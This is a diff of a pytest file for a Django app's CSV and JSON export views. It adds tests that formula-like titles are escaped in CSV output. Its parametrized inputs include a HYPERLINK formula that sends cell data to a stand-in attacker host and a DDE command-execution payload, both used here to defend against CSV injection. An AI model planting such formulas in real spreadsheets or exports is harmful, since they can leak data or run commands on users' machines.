@@ -10,6 +10,7 @@ from django.http import QueryDict
 from practices import search
 from practices.models import Practice
 from practices.search.index import current_index
+from tests.factories import make_practice
 
 
 @pytest.fixture
@@ -43,9 +44,15 @@ def test_csv_joins_multiple_values_with_semicolons(client, data):
         csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
     )
     asean = next(row for row in rows if row["title"] == "ASEAN TRIANGLE project")
-    assert asean["lead_countries"].split("; ") == ["KH", "ID", "LA", "MM", "PH", "TH", "VN"] or set(
-        asean["lead_countries"].split("; ")
-    ) == {"KH", "ID", "LA", "MM", "PH", "TH", "VN"}
+    # Countries by name: Cambodia, Indonesia, Lao PDR, Myanmar, the Philippines …
+    assert asean["lead_countries"].split("; ") == ["KH", "ID", "LA", "MM", "PH", "TH", "VN"]
+    assert asean["sdg_targets"].split("; ") == ["8.8", "10.7"]
+
+
+def test_json_lists_multiple_values_in_the_same_order(client, data):
+    payload = json.loads(read(client.get("/practices/?format=json")))
+    asean = next(p for p in payload["practices"] if p["title"] == "ASEAN TRIANGLE project")
+    assert asean["lead_countries"] == ["KH", "ID", "LA", "MM", "PH", "TH", "VN"]
 
 
 @pytest.mark.parametrize(
@@ -64,3 +71,32 @@ def test_an_unknown_format_shows_the_page(client, data):
     response = client.get("/practices/?format=xlsx")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/html")
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
+)
+def test_csv_cells_never_run_as_formulas(client, reference_data, title):
+    """A practice titled like a formula is exported as text: a spreadsheet does not run it."""
+    make_practice(title=title, summary="=1+1")
+    rows = list(
+        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
+    )
+    assert [(row["title"], row["summary"]) for row in rows] == [("'" + title, "'=1+1")]
+
+
+def test_csv_keeps_ordinary_text_as_it_is(client, reference_data):
+    make_practice(title="Diaspora bonds – a review", summary="Bonds sold to the diaspora.")
+    rows = list(
+        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
+    )
+    assert [(row["title"], row["summary"]) for row in rows] == [
+        ("Diaspora bonds – a review", "Bonds sold to the diaspora.")
+    ]
+
+
+def test_json_keeps_the_text_exactly(client, reference_data):
+    make_practice(title="=HYPERLINK(1)")
+    payload = json.loads(read(client.get("/practices/?format=json")))
+    assert [p["title"] for p in payload["practices"]] == ["=HYPERLINK(1)"]
